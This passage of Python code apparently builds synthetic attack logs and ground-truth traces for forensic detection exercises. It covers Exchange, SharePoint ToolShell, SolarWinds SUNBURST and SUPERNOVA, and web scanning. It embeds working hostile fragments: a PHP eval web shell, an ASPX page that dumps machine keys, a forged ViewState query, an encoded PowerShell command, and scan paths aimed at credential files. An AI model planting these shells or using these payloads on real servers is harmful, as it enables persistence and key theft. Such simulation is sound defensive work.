    mark = "P%s%d" % (who.name, t)
    process(host, t, SYSTEM32 + "cmd.exe", command, W3WP, mark=mark,
            parent_command='c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "%s" -v "v4.0"' % pool)
    for source, letter in (("security", "S"), ("sysmon", "Y")):
        host.trace(source, t, campaign, "action", "seen", letter + mark, who.name,
                   kind="execution", command=command, general=True)
        host.trace(source, t, campaign, "entry", "exploited", letter + mark, who.name,
                   inferred=True)


def ow_request(host, t, who, status=200, child=False, mailbox=True):
    """OWASSRF: PowerShell reached through OWA.  Source: CrowdStrike, as knowledge B5 tells it"""
    account = "c.ek@" + host.org.domain
    stem = "/owa/%s/powershell" % ("mastermailbox%40outlook.com" if mailbox else account)
    rid = request(host, t, "Owa", stem, who.address, method="POST", agent="Python PSRP Client",
                  user=account, auth="Basic", status=status,
                  backend=status if status == 200 else None, be_stem="/powershell")
    _seen(host, t, OW, "entry", "reached" if status == 200 else "attempted", ("hp-owa", "iis-fe"),
          rid, who, accept=("exploited",) if status == 200 else ("probed",))
    if status == 200:
        table(host, "rps-http", t + 80, AuthenticationType="Kerberos", IsAuthenticated="true",
              AuthenticatedUser=account, ClientIpAddress="fe80::a1%4", HttpStatus="200",
              UrlHost=host.fqdn, UrlStem="/powershell", ClientInfo="Python PSRP Client")
        host.trace("rps-http", t + 80, OW, "entry", "reached", "", who.name, accept=("exploited",))
    if child:
        powershell_child(host, t + 2500, who, OW)


def vs_request(host, t, who, child=False, status=500, user="d.falk"):
    """CVE-2020-0688: state of the page, signed with the key that all servers shared."""
    account = host.org.netbios + "\\" + user
    query = "?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2fwEymAwAAQAAAP" + "A" * 400
    rid = request(host, t, "Ecp", "/ecp/default.aspx", who.address, agent=who.agent, user=account,
                  auth="FBA", query=query, status=status, backend=status)
    _seen(host, t, C0688, "entry", "attempted", ("hp-ecp", "iis-fe"), rid, who,
          accept=("reached", "probed") if status != 500 else ("reached",))
    if status == 500:
        world.application(host, t + 100, "MSExchange Control Panel", 4, [
            account, "https://%s:444/ecp/default.aspx%s" % (host.fqdn, query.replace(
                "?", "?x=1&")), "System.Web.HttpUnhandledException: Exception of type"],
            level=2, mark="A" + who.name)
        host.trace("application", t + 100, C0688, "entry", "attempted", "A" + who.name, who.name,
                   accept=("reached",))
        s_mark = (rid, "A" + who.name)
        host.notes.setdefault("links", []).append(s_mark)
    if child:
        powershell_child(host, t + 1500, who, C0688, "MSExchangeECPAppPool")


def ga_exception(host, t, who, child=False):
    """CVE-2021-42321: Get-App stumbles over a forged configuration."""
    table(host, "ews", t - 3000, AuthenticationType="NTLM", IsAuthenticated="true",
          AuthenticatedUser="e.grahn@" + host.org.domain, UserAgent=who.agent,
          ClientIpAddress=who.address, SoapAction="CreateUserConfiguration", HttpStatus="200",
          RequestSize="9210", ResponseSize="900", FrontEndServer=host.fqdn)
    host.event("mgmt", t, "MSExchange CmdletLogs", 8, [(None, x) for x in (
        "Get-App", "-Mailbox \"e.grahn\"", "%s/Users/e.grahn" % host.org.domain,
        host.org.sid + "-1108", host.org.sid + "-1108", "Unknown",
        "8112 w3wp#MSExchangeServicesAppPool", "", "7", "00:00:00.09",
        "View Entire Forest: 'False'",
        "Task Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast "
        "object of type 'System.Collections.Hashtable' to type 'System.Collections.Generic."
        "Dictionary`2'.")], level=2, mark="G" + who.name)
    host.trace("mgmt", t, C42321, "entry", "attempted", "G" + who.name, who.name,
               accept=("reached", "exploited"))
    if child:
        powershell_child(host, t + 700, who, C42321, "MSExchangeServicesAppPool")


# -- SharePoint, Orion -------------------------------------------------------------------------------

FIREFOX120 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0"


def ts_post(host, t, who, status=200, referer="/_layouts/SignOut.aspx"):
    """ToolShell's first request.  Source: knowledge B5"""
    static(host, t, "/_layouts/15/ToolPane.aspx", who.address, method="POST", agent=FIREFOX120,
           query="DisplayMode=Edit&a=/ToolPane.aspx", referer=referer, status=status, size=3068)
    _seen(host, t, TS, "entry", "reached" if status in (200, 302) else "attempted", ("iis",), "",
          who, accept=("attempted",) if status == 302 or referer == "-" else ())


def ts_shell(s, host, t, who, name="spinstall0.aspx", fetched=True):
    """The page that tells the machine's keys, and its being asked for."""
    shell = shell_at("/_layouts/15/" + name)
    ts_post(host, t, who)
    text = ('<%@ Import Namespace="System.Diagnostics" %>\r\n<script runat="server" language="c#">'
            'public void Page_load(){var sy = System.Reflection.Assembly.Load("System.Web");'
            'var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");'
            'Response.Write(mkt);}</script>\r\n').encode()
    plant(host, t + 2000, shell, TS, who, text, seen=True)
    process(host, t + 1500, SYSTEM32 + "cmd.exe", "cmd.exe /c powershell.exe -EncodedCommand "
            "JABiAGEAcwBlADYANABTAHQAcgBpAG4AZwAgAD0A", W3WP, mark="K" + who.name,
            parent_command='c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "SharePoint - 80" -v "v4.0"')
    for source, letter in (("security", "S"), ("sysmon", "Y")):
        host.trace(source, t + 1500, TS, "action", "seen", letter + "K" + who.name, who.name,
                   kind="execution", command="cmd.exe /c powershell.exe", general=True)
    if fetched:
        static(host, t + 4000, shell.web, who.address, agent=FIREFOX120, status=200, size=480,
               referer="/_layouts/SignOut.aspx")
        _seen(host, t + 4000, TS, "backdoor", "written", ("iis",), "", who, item=shell.web,
              used=t + 4000)
        _seen(host, t + 4000, TS, "entry", "exploited", ("iis",), "", who)
        host.trace("iis", t + 4000, TS, "loss", "bounds", "", who.name, loose=True)
    return shell


def sb_library(host, t, version="2019.4.5200.9083",
               sha256="32519B85C0B422E4656DE6E6C41878E95FD95026267DAAB4215EE59C107D6C77"):
    """SUNBURST's library loaded by Orion's service: Sysmon 7.  Source: knowledge B5"""
    world.sysmon(host, t, 7, [
        ("ProcessGuid", "{6004D249-0000-604D-3004-000000000900}"), ("ProcessId", "4120"),
        ("Image", "C:\\Program Files (x86)\\SolarWinds\\Orion\\SolarWinds.BusinessLayerHost.exe"),
        ("ImageLoaded", "C:\\Program Files (x86)\\SolarWinds\\Orion\\SolarWinds.Orion.Core."
         "BusinessLayer.dll"), ("FileVersion", version), ("Description", "-"),
        ("Product", "Orion Platform"), ("Company", "SolarWinds Worldwide, LLC."),
        ("OriginalFileName", "SolarWinds.Orion.Core.BusinessLayer.dll"),
        ("Hashes", "SHA256=" + sha256), ("Signed", "true"),
        ("Signature", "Solarwinds Worldwide, LLC"), ("SignatureStatus", "Valid")],
        mark="L" + host.name)
    host.trace("sysmon", t, SB, "entry", "exploited", "L" + host.name, "sunburst",
               accept=("reached",))
    host.trace("sysmon", t, SB, "backdoor", "present", "L" + host.name, "sunburst",
               accept=("written",))


def names_asked(host):
    """The everyday names that Orion's service asks for: Sysmon 22."""
    for t in range(host.start, host.end, 6 * HOUR):
        world.sysmon(host, t, 22, [
            ("ProcessGuid", "{6004D249-0000-604D-3004-000000000900}"), ("ProcessId", "4120"),
            ("QueryName", "sw01.%s" % host.org.domain), ("QueryStatus", "0"),
            ("QueryResults", "::ffff:10.20.0.5;"),
            ("Image", "C:\\Program Files (x86)\\SolarWinds\\Orion\\SolarWinds.BusinessLayerHost"
             ".exe")])


def sb_names(host, t, count=4):
    """Names that carry the victim in them, asked for by Orion's service: Sysmon 22."""
    for i in range(count):
        name = "%s.appsync-api.eu-west-1.avsvmcloud.com" % hashlib.sha256(
            b"%d" % i).hexdigest()[:20]
        world.sysmon(host, t + i * 2 * HOUR, 22, [
            ("ProcessGuid", "{6004D249-0000-604D-3004-000000000900}"), ("ProcessId", "4120"),
            ("QueryName", name), ("QueryStatus", "0"), ("QueryResults", "::ffff:203.0.113.77;"),
            ("Image", "C:\\Program Files (x86)\\SolarWinds\\Orion\\SolarWinds.BusinessLayerHost"
             ".exe")], mark="N%d%s" % (i, host.name))
        host.trace("sysmon", t + i * 2 * HOUR, SB, "entry", "exploited", "N%d%s" % (i, host.name),
                   "sunburst", accept=("reached", "attempted"))
        host.trace("sysmon", t + i * 2 * HOUR, SB, "backdoor", "written", "N%d%s" % (i, host.name),
                   "sunburst", accept=("present",), loose=True)


def sn_use(host, t, who, status=200):
    """SUPERNOVA's page answers to four parameters."""
    static(host, t, "/Orion/logoimagehandler.ashx", who.address, agent=who.agent, status=status,
           query="clazz=A&method=B&args=C&codes=D", size=310)
    if status == 200:
        _seen(host, t, SN, "backdoor", "written", ("iis",), "", who,
              item="/Orion/logoimagehandler.ashx", used=t, accept=("present",))
        _seen(host, t, SN, "entry", "exploited", ("iis",), "", who, inferred=True)
        _seen(host, t, SN, "action", "seen", ("iis",), "", who, kind="execution")
    else:  # who asks a server for a back door that is not there only looked
        looked = dataclasses.replace(who, role="scanner")
        _seen(host, t, SN, "entry", "attempted", ("iis",), "", looked, accept=("probed", "none"))


def sn_bypass(host, t, who, status=200):
    """CVE-2020-10148: an address that Orion takes for a resource needs no logon."""
    static(host, t, "/api/SolarWinds/Upload.i18n.ashx", who.address, agent=who.agent,
           method="POST", query="l=en-US&v=1", status=status, size=200)
    _seen(host, t, SN, "entry", "reached" if status == 200 else "attempted", ("iis",), "", who,
          accept=("attempted", "probed"))


# -- any web server ------------------------------------------------------------------------------------


def web_scan(host, t, who, count=30):
    """A scanner asks for everything it knows: all refused."""
    paths = ("/phpmyadmin/", "/.git/config", "/admin.php", "/cgi-bin/test.cgi", "/wp-login.php",
             "/solr/admin/", "/manager/html", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
             "/shell.php", "/boaform/admin/formLogin", "/.aws/credentials", "/server-status")
    for i in range(count):
        path = paths[i % len(paths)]
        if host.role in ("apache", "nginx"):
            world.access(host, t + i * 700, path, who.address, status=404, agent=who.agent)
        else:
            static(host, t + i * 700, path, who.address, status=404, agent=who.agent)
    host.trace("access" if host.role in ("apache", "nginx") else "iis", t, WEB, "entry", "probed",
               "", who.name, initiator=who.told(), accept=("attempted", "none"))


PHP = b"<?php @ev" + b"al($_POST['made']); ?>\n"


def php_shell(host, t, who, web="/uploads/cache.php", uses=3, keep=True):
    """A page in a folder for pictures, used by POST."""
    shell = Shell(web, "")
    path = "var/www/html" + web
    if keep:
        host.file(path, PHP, t)
        host.trace("web", t, WEB, "backdoor", "present", "", who.name, item=web, general=True)
        host.trace("web", t, WEB, "entry", "exploited", "", who.name, inferred=True, loose=True)
    for i in range(uses):
        visit(host, t + (i + 1) * 3 * MINUTE, who, shell, WEB)
    return shell
